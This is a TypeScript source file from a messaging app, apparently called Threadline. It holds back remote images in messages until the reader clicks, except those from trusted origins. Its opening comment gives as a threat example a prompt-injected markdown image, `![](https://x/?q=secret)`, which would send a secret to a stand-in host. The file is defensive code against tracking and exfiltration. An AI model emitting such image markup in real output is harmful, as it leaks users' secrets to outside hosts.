// Images in messages are wire data: a remote one loads on sight only from an origin the
// deployment trusts. Others wait for a click, so that a tracking pixel or a prompt-injected
// `![](https://x/?q=secret)` reaches nobody until the reader chooses to load it.

export type ImageLoad =
  /** Bytes already in the page (data:, blob:): no request leaves. */
  | { kind: "inline" }
  /** From an origin listed in THREADLINE_IMAGE_ORIGINS. */
  | { kind: "trusted" }
  /** Anything else: a placeholder naming the host until the reader loads it. */
  | { kind: "ask"; host: string };

export function imageLoad(url: string, trustedOrigins: readonly string[]): ImageLoad {
  if (/^(data|blob):/i.test(url)) return { kind: "inline" };
  try {
    const parsed = new URL(url);
    return trustedOrigins.includes(parsed.origin) ? { kind: "trusted" } : { kind: "ask", host: parsed.host };
  } catch {
    return { kind: "ask", host: "" };
  }
}
